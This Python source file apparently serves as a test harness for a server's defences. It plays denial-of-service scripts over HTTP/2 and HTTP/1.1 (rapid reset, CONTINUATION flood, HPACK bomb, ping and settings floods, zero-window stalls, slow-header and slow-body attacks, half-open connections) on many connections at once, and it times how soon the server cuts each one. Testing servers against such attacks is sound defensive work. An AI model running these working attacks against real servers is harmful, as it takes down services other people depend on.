"""What somebody does who wants a server's memory, time or connections, and does not want answers.

An attack is a script of bytes that is played on many connections at once, by one thread.
"""

from __future__ import annotations

import errno
import itertools
import resource
import select
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import hpack

from blocks import INDEXING, NEVER, NEWEST, indexed, literal, string
from wire import (
    END_HEADERS, END_STREAM, FRAME_BYTES, HEADER_BYTES, PREFACE, Setting, Type, data, ping, raw,
    reset, settings,
)

# What is handed to the kernel at once.
CHUNK_BYTES = 65_536
STREAM_MAX = 2**31 - 1
START = PREFACE + settings()


@dataclass(frozen=True)
class Target:
    address: tuple[str, int]
    path: str
    post: str

    @property
    def authority(self) -> str:
        return "%s:%d" % self.address

    def block(self, method: str, *more: tuple[str, str]) -> bytes:
        """A field block that needs no dynamic table, so that it may be sent any number of times."""
        path = self.path if method == "GET" else self.post
        fields = [
            (":method", method), (":scheme", "http"), (":authority", self.authority),
            (":path", path), *more,
        ]
        return hpack.Encoder().encode([(*field, True) for field in fields])

    def opened(self, stream: int = 1, *more: tuple[str, str]) -> bytes:
        """A request whose body is to come."""
        return raw(Type.HEADERS, END_HEADERS, stream, self.block("POST", *more))


Script = Callable[[Target], Iterator[bytes]]


@dataclass(frozen=True)
class Attack:
    name: str
    script: Script
    # Seconds until every connection of it must be cut.
    within: float = 1
    connections: int = 4
    # Seconds between the parts of the script; None: as fast as they are taken.
    pause: float | None = None
    reads: bool = True
    # So many streams that the server ends are as good as an end of the connection.
    streams: int = 0


def batched(frames: Iterator[bytes]) -> Iterator[bytes]:
    """Frames put together until they are worth a system call."""
    batch = bytearray()
    for frame in frames:
        batch += frame
        if len(batch) >= CHUNK_BYTES:
            yield bytes(batch)
            batch.clear()


def repeated(frame: bytes) -> Iterator[bytes]:
    return itertools.repeat(frame * (CHUNK_BYTES // len(frame) + 1))


def rapid_reset(target: Target) -> Iterator[bytes]:
    block = target.block("GET")
    yield START
    yield from batched(
        raw(Type.HEADERS, END_HEADERS | END_STREAM, stream, block) + reset(stream)
        for stream in range(1, STREAM_MAX, 2)
    )


def continuation(target: Target) -> Iterator[bytes]:
    yield START + raw(Type.HEADERS, END_STREAM, 1, target.block("GET"))
    field = literal(NEVER, "x", string("y" * 1_000))
    fields = field * (FRAME_BYTES // len(field))
    yield from repeated(raw(Type.CONTINUATION, 0, 1, fields))


def empty_continuation(target: Target) -> Iterator[bytes]:
    yield START + raw(Type.HEADERS, END_STREAM, 1, target.block("GET"))
    yield from repeated(raw(Type.CONTINUATION, 0, 1))


def pings(target: Target) -> Iterator[bytes]:
    yield START
    yield from repeated(ping())


def many_settings(target: Target) -> Iterator[bytes]:
    yield START
    yield from repeated(settings((Setting.INITIAL_WINDOW_SIZE, 70_000)))


def empty_data(target: Target) -> Iterator[bytes]:
    yield START + target.opened()
    yield from repeated(data(1))


def hpack_bomb(target: Target) -> Iterator[bytes]:
    # One entry that fills the table, and blocks in which each octet stands for all of it.
    entry = literal(INDEXING, "x", string("y" * 4_000))
    request = target.block("GET")
    yield START + raw(Type.HEADERS, END_HEADERS | END_STREAM, 1, request + entry)
    bomb = request + indexed(NEWEST) * (FRAME_BYTES - len(request))
    for stream in range(3, STREAM_MAX, 2):
        yield raw(Type.HEADERS, END_HEADERS | END_STREAM, stream, bomb)


WINDOW_0_STREAMS = 50


def window_0(target: Target) -> Iterator[bytes]:
    yield PREFACE + settings((Setting.INITIAL_WINDOW_SIZE, 0))
    yield b"".join(
        raw(Type.HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, target.block("GET"))
        for n in range(WINDOW_0_STREAMS)
    )


def slow_preface(target: Target) -> Iterator[bytes]:
    yield from (bytes([byte]) for byte in PREFACE)


def slow_headers(target: Target) -> Iterator[bytes]:
    # Of so long a field the last byte would come after half an hour.
    block = target.block("GET") + literal(NEVER, "x", string("y" * 4_000))
    yield START + raw(Type.HEADERS, END_HEADERS | END_STREAM, 1, block)[:-4_000]
    yield from itertools.repeat(b"y")


def slow_body(target: Target) -> Iterator[bytes]:
    yield START + target.opened(1, ("content-length", "4000"))
    yield from itertools.repeat(data(1, b"y"))


def http1(target: Target, *fields: str) -> bytes:
    lines = [f"POST {target.post} HTTP/1.1", f"Host: {target.authority}", *fields]
    return "".join(f"{line}\r\n" for line in lines).encode()


def http1_slow_headers(target: Target) -> Iterator[bytes]:
    yield http1(target) + b"X-Slow: "
    yield from itertools.repeat(b"y")


def http1_slow_body(target: Target) -> Iterator[bytes]:
    yield http1(target, "Content-Length: 4000", "")
    yield from itertools.repeat(b"y")


def unread(target: Target) -> Iterator[bytes]:
    yield PREFACE + settings((Setting.INITIAL_WINDOW_SIZE, STREAM_MAX))
    block = target.block("GET")
    yield from batched(
        raw(Type.HEADERS, END_HEADERS | END_STREAM, stream, block)
        for stream in range(1, STREAM_MAX, 2)
    )


def http1_unread(target: Target) -> Iterator[bytes]:
    lines = [f"GET {target.path} HTTP/1.1", f"Host: {target.authority}", "", ""]
    yield from repeated("\r\n".join(lines).encode())


def half_open(target: Target) -> Iterator[bytes]:
    yield b""


SLOW = {"within": 6, "connections": 50, "pause": 0.5}

ATTACKS = [
    Attack("rapid-reset", rapid_reset),
    Attack("continuation", continuation),
    Attack("empty-continuation", empty_continuation),
    Attack("ping", pings),
    Attack("ping-unread", pings, reads=False),
    Attack("settings", many_settings),
    Attack("settings-unread", many_settings, reads=False),
    Attack("empty-data", empty_data),
    Attack("hpack-bomb", hpack_bomb),
    Attack("window-0", window_0, streams=WINDOW_0_STREAMS, within=6, connections=50),
    Attack("slow-preface", slow_preface, **SLOW),
    Attack("slow-headers", slow_headers, streams=1, **SLOW),
    Attack("slow-body", slow_body, streams=1, **SLOW),
    Attack("http1-slow-headers", http1_slow_headers, **SLOW),
    Attack("http1-slow-body", http1_slow_body, **SLOW),
    Attack("half-open", half_open, within=6, connections=1_000),
    Attack("unread", unread, reads=False, within=6, connections=50),
    Attack("http1-unread", http1_unread, reads=False, within=6, connections=50),
]


@dataclass
class Outcome:
    """How an attack went: seconds until each connection was cut, and how many never were."""

    cuts: list[float] = field(default_factory=list)
    uncut: int = 0


class Attacker:
    """One connection of an attack."""

    def __init__(self, attack: Attack, target: Target):
        self.attack = attack
        self.began = time.monotonic()
        self.next_part = self.began
        self.parts = attack.script(target)
        self.unsent = memoryview(b"")
        self.unread = bytearray()
        self.ended_streams = 0
        self.cut = self.exhausted = False
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(target.address)

    def write(self) -> None:
        """As much as the kernel takes and the script's pauses allow."""
        if not self.unsent and not self.exhausted and time.monotonic() >= self.next_part:
            self.next_part = time.monotonic() + (self.attack.pause or 0)
            try:
                self.unsent = memoryview(next(self.parts))
            except StopIteration:
                self.exhausted = True
        if self.unsent:
            self.unsent = self.unsent[self.socket.send(self.unsent) :]

    @property
    def wants_to_write(self) -> bool:
        if self.unsent:
            return True
        return not self.exhausted and time.monotonic() >= self.next_part

    def read(self) -> None:
        read = self.socket.recv(CHUNK_BYTES)
        self.cut = not read
        if self.attack.streams:
            self.unread += read
            self._count_ended_streams()

    def _count_ended_streams(self) -> None:
        while len(self.unread) >= HEADER_BYTES:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < HEADER_BYTES + length:
                return
            type, flags = self.unread[3], self.unread[4]
            ends = type in (Type.DATA, Type.HEADERS) and flags & END_STREAM
            self.ended_streams += bool(ends or type == Type.RST_STREAM)
            del self.unread[: HEADER_BYTES + length]
        self.cut |= self.ended_streams >= self.attack.streams


class Siege:
    """An attack on all its connections; who is cut comes again, as long as it lasts."""

    def __init__(self, attack: Attack, target: Target, seconds: float):
        self.attack, self.target = attack, target
        self.until = time.monotonic() + seconds
        self.outcome = Outcome()
        self.poll = select.epoll()
        self.attackers: dict[int, Attacker] = {}
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    def run(self) -> Outcome:
        for _ in range(self.attack.connections):
            self._open()
        # Who came last has the attack's limit too, and a bit, so that a miss is told in seconds.
        end = self.until + self.attack.within + 1
        while self.attackers and time.monotonic() < end:
            self._turn()
        self.outcome.uncut = len(self.attackers)
        return self.outcome

    def _open(self) -> None:
        attacker = Attacker(self.attack, self.target)
        self.attackers[attacker.socket.fileno()] = attacker
        self.poll.register(attacker.socket, self._interest(attacker))

    def _interest(self, attacker: Attacker) -> int:
        interest = select.EPOLLRDHUP | (select.EPOLLIN if self.attack.reads else 0)
        return interest | (select.EPOLLOUT if attacker.wants_to_write else 0)

    def _turn(self) -> None:
        for descriptor, events in self.poll.poll(self.attack.pause or 0.1):
            attacker = self.attackers[descriptor]
            try:
                if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
                    attacker.cut = True
                elif events & select.EPOLLIN:
                    attacker.read()
                if events & select.EPOLLOUT and not attacker.cut:
                    attacker.write()
            except BlockingIOError:
                pass
            except OSError as error:
                if error.errno not in (errno.EPIPE, errno.ECONNRESET, errno.ECONNREFUSED):
                    raise
                attacker.cut = True
            if attacker.cut:
                self._bury(attacker)
        for attacker in self.attackers.values():
            self.poll.modify(attacker.socket, self._interest(attacker))

    def _bury(self, attacker: Attacker) -> None:
        self.outcome.cuts.append(time.monotonic() - attacker.began)
        del self.attackers[attacker.socket.fileno()]
        attacker.socket.close()
        if time.monotonic() < self.until:
            self._open()
